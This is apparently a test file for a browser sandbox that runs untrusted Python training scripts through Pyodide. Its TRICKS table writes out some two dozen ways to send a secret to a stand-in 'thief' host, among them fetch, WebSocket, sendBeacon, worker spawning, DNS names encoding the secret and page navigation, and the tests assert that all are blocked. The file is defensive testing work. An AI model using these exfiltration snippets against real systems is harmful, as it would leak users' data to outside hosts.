// A stranger's trainer in the tab, by the name of what it tries: nothing of the rows may leave by any of it. The trainers
// are Python, as real ones are, and reach for the worker's own functions through Pyodide's `js`.
import assert from 'node:assert/strict'
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { extname, join } from 'node:path'
import { after, before, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { startBrowser } from './browser.mjs'

const DIST = fileURLToPath(new URL('../dist/', import.meta.url))
const TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.mjs': 'text/javascript', '.css': 'text/css' }
const CHUNK = readdirSync(join(DIST, 'assets')).find((name) => /^scriptFrame-.*\.js$/.test(name))

/** Where Chromium writes down all that its network stack does: names that it looks up, connections, requests. */
const LOG = mkdtempSync(join(tmpdir(), 'deml-trainer-'))

let page
let host
let browser
let thief
/** What reached the thief, and what the page's own host was asked for since the trainer began to run. */
let stolen = []
const asked = []

before(async () => {
  host = createServer((request, response) => {
    const path = new URL(request.url, 'http://host').pathname
    asked.push(request.url)
    const file = path === '/' ? 'index.html' : path
    response.setHeader('content-type', TYPES[extname(file)] ?? 'application/octet-stream')
    try {
      response.end(path === '/settings.json' ? '{}' : readFileSync(join(DIST, file)))
    } catch {
      response.writeHead(404).end()
    }
  })
  thief = createServer((request, response) => {
    stolen.push(request.url)
    response.setHeader('access-control-allow-origin', '*')
    response.end('thanks')
  })
  thief.on('upgrade', (request, socket) => {
    stolen.push(request.url)
    socket.destroy()
  })
  thief.on('connection', () => stolen.push('connection'))
  for (const server of [host, thief]) await new Promise((done) => server.listen(0, '127.0.0.1', done))
  browser = await startBrowser(
    `--log-net-log=${join(LOG, 'net.json')}`,
    '--net-log-capture-mode=Everything',
    '--host-resolver-rules=MAP *.invalid ~NOTFOUND',
  )
  // Nothing is held back before Chromium's network stack, which would then log nothing; no name leads anywhere.
  page = await browser.newPage()
  await page.goto(`http://127.0.0.1:${host.address().port}/`)
})

after(async () => {
  await browser?.close()
  host?.close()
  thief?.close()
  rmSync(LOG, { recursive: true, force: true })
})

/** Run a trainer as the page does; resolves with what it printed, and its model's bytes or why there are none. */
async function run(script, maxBytes = 1_000) {
  stolen = []
  const trainer = `print("begun")\nTHIEF = "127.0.0.1:${thief.address().port}"\n${script}`
  const promise = page.evaluate(
    async ([chunk, text, most]) => {
      const { runScript } = await import(`/assets/${chunk}`)
      const lines = []
      let refused = 0
      const count = (attempts) => {
        refused = attempts
      }
      const bytes = new TextEncoder()
      const job = {
        script: bytes.encode(text),
        files: { '/data/x.npy': bytes.encode('SECRET') },
        maxBytes: most,
      }
      const hear = (line) => {
        lines.push(line)
        if (line === 'begun') fetch('/begun')
      }
      try {
        const model = await runScript(job, hear, AbortSignal.timeout(120_000), count)
        return { lines, refused, model: [...model] }
      } catch (error) {
        return { lines, refused, failed: error.message }
      }
    },
    [CHUNK, trainer, maxBytes],
  )
  const found = await promise
  await new Promise((later) => setTimeout(later, 300))
  const since = asked.slice(asked.lastIndexOf('/begun') + 1)
  return { ...found, since }
}

/** A trainer that tries things by JavaScript, says what became of each, and then leaves a model. */
function trying(tricks) {
  const origin = JSON.stringify(`http://127.0.0.1:${host.address().port}`)
  const known = (number) =>
    `const SECRET = 'SECRET-${number}', THIEF = '127.0.0.1:${thief.address().port}', ORIGIN = ${origin};`
  const codes = tricks.map((code, number) => `self.told = ''; self.told = (() => { ${known(number)} ${code} })()`)
  return `
import json
import js
from pyodide.ffi import to_js
for number, code in enumerate(json.loads(${JSON.stringify(JSON.stringify(codes))})):
    try:
        js.importScripts(js.URL.createObjectURL(js.Blob.new(to_js([code]))))
        print("told", number, str(js.told).splitlines()[0])
    except Exception as error:
        print("told", number, "refused:", str(error).splitlines()[0])
open("/out/model.safetensors", "wb").write(b"made")
`
}

const MADE = [...Buffer.from('made')]

test('an honest trainer leaves its model', { timeout: 200_000 }, async () => {
  const found = await run(
    'import numpy\nprint(open("/data/x.npy").read())\nopen("/out/model.safetensors", "wb").write(b"made")',
  )
  assert.deepEqual(found.lines, ['begun', 'SECRET'])
  assert.equal(found.refused, 0, 'what is honest tries nothing')
  assert.deepEqual(found.model, MADE)
})

const TRICKS = {
  'fetch, as the browser has it': 'return String(fetch("http://" + THIEF + "/" + SECRET))',
  'a fresh fetch, from the worker’s prototype':
    'delete self.fetch; return String(self.fetch && self.fetch("http://" + THIEF + "/" + SECRET))',
  XMLHttpRequest:
    'const x = new XMLHttpRequest(); x.open("GET", "http://" + THIEF + "/" + SECRET, false); x.send(); return x.status',
  WebSocket: 'return String(new WebSocket("ws://" + THIEF + "/" + SECRET).readyState)',
  EventSource: 'return String(new EventSource("http://" + THIEF + "/" + SECRET).readyState)',
  WebTransport: 'return String(new WebTransport("https://" + THIEF + "/" + SECRET))',
  'import() of a stranger’s module': 'return String(import("http://" + THIEF + "/" + SECRET))',
  'import() of the page’s host': 'return String(import(ORIGIN + "/" + SECRET))',
  importScripts: 'importScripts("http://" + THIEF + "/" + SECRET)',
  'a worker of its own, from a blob':
    'const code = "fetch(\'http://" + THIEF + "/" + SECRET + "\')"; return String(new Worker(URL.createObjectURL(new Blob([code]))))',
  'a worker of its own, by address': 'return String(new Worker("http://" + THIEF + "/" + SECRET))',
  'a web page’s connections (WebRTC)': 'return typeof RTCPeerConnection',
  'storage: IndexedDB': 'return String(indexedDB.open("x"))',
  'storage: caches': 'return String(caches.open("x"))',
  'a broadcast to other tabs': 'new BroadcastChannel("deml").postMessage(SECRET); return "sent"',
  'navigator.sendBeacon':
    'return String(navigator.sendBeacon && navigator.sendBeacon("http://" + THIEF + "/" + SECRET))',
  'a report of a broken policy, with the secret in its address':
    'fetch.call(self, "http://" + THIEF + "/?" + SECRET); return 1',
  'a name that spells it: fetch': 'return String(fetch("http://" + SECRET + ".thief.invalid/"))',
  'a name that spells it: WebSocket': 'return String(new WebSocket("ws://" + SECRET + ".thief.invalid/").readyState)',
  'a name that spells it: import()': 'return String(import("http://" + SECRET + ".thief.invalid/"))',
  'a name that spells it: a link to prefetch':
    'const one = document.createElement("link"); one.rel = "dns-prefetch"; one.href = "http://" + SECRET + ".thief.invalid"; document.head.append(one); return 1',
  'navigation of its own': 'location.href = "http://" + THIEF + "/" + SECRET; return String(location)',
  'navigation: a new window': 'return String(open("http://" + THIEF + "/" + SECRET))',
  'navigation of the page': 'top.location = "http://" + THIEF + "/" + SECRET; return 1',
  'the page that embeds it': 'return String(self.parent) + String(self.top) + String(self.document)',
}

test('nothing leaves by', { timeout: 300_000 }, async (all) => {
  const found = await run(trying(Object.values(TRICKS)))
  assert.deepEqual(found.model, MADE, found.failed)
  for (const [number, name] of Object.keys(TRICKS).entries()) {
    await all.test(name, () => {
      const secret = `SECRET-${number}`
      assert.deepEqual(
        stolen.filter((one) => one.includes(secret)),
        [],
        'nothing reached the thief',
      )
      assert.deepEqual(
        found.since.filter((one) => one.includes(secret)),
        [],
        'nothing reached the host of the page',
      )
      const told = found.lines.find((line) => line.startsWith(`told ${number} `))
      assert.ok(told, 'it was tried')
      all.diagnostic(`${name}: ${told.split(' ').slice(2).join(' ')}`)
    })
  }
  assert.deepEqual(stolen, [], 'nobody even connected to the thief')
  assert.ok(found.refused >= 5, `${found.refused} attempts were told of by the browser's policy`)
  assert.deepEqual(found.since, [], 'nothing was asked of the page’s host')
})

test('messages without end, past Python', { timeout: 200_000 }, async () => {
  const found = await run(
    trying(['for (let n = 0; n < 100_000; n += 1) postMessage({ line: "x".repeat(600) }); return 1']),
  )
  assert.match(found.failed, /printed too much/)
  assert.ok(found.lines.every((line) => line.length <= 500))
})

test('messages without end', { timeout: 200_000 }, async () => {
  const found = await run('while True: print("x" * 10_000)')
  assert.match(found.failed, /printed too much/)
  assert.ok(found.lines.every((line) => line.length <= 500))
})

test('a model that is too large, something else beside it, and nothing', { timeout: 300_000 }, async () => {
  assert.match((await run('open("/out/model.safetensors", "wb").write(bytes(2000))')).failed, /more than 1000 bytes/)
  assert.match((await run('open("/out/secret", "w").write("x")')).failed, /left 'secret'/)
  assert.match((await run('pass')).failed, /left no model/)
})

test('messages that pretend to be something else', { timeout: 200_000 }, async () => {
  const code =
    'for (const one of [null, 7, { line: 5 }, { model: "x", left: ["model.safetensors"] }]) postMessage(one); return 1'
  assert.match((await run(trying([code]))).failed, /left no model/)
})

test('not even a name was looked up: Chromium’s own log of its network', { timeout: 200_000 }, async () => {
  await page.evaluate(() => fetch('https://control.thief.invalid/').catch(() => {}))
  await browser.close()
  const log = readFileSync(join(LOG, 'net.json'), 'utf8').toLowerCase()
  assert.ok(log.includes('control.thief.invalid'), 'what the page itself asks for is in the log')
  assert.doesNotMatch(log, /secret/)
})
